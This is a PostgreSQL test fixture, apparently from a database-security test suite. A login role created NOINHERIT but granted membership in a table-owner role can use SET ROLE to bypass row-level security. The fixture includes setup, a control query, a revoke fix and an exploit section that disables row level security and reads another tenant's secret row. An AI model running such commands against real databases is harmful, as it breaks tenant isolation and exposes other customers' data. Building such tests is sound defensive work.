-- What: NOINHERIT keeps the owner's rights away from the login until it says SET ROLE, which membership alone allows.
-- Class: role_owns_table
-- Object: owns_noinherit_web | public.projects
-- Exploit: SET ROLE app_owner, then ALTER TABLE … DISABLE ROW LEVEL SECURITY.
-- App: owns_noinherit_web
-- Roles: owns_noinherit_web
-- @superuser
create role owns_noinherit_web login noinherit in role app_owner;
-- @schema
create table projects (id bigint generated always as identity primary key, tenant_id uuid not null, name text not null);
alter table projects enable row level security;
alter table projects force row level security;
create policy tenant on projects using (tenant_id::text = current_setting('app.tenant_id', true));
grant select, insert, update, delete on projects to owns_noinherit_web;
-- @rows
insert into projects (tenant_id, name) values (:'A', 'A-row'), (:'B', 'B-secret');
-- @fix
revoke app_owner from owns_noinherit_web;
-- @control
select from projects where tenant_id = :'A';
-- @exploit
set role app_owner;
alter table projects disable row level security;
select name from projects where name = 'B-secret';
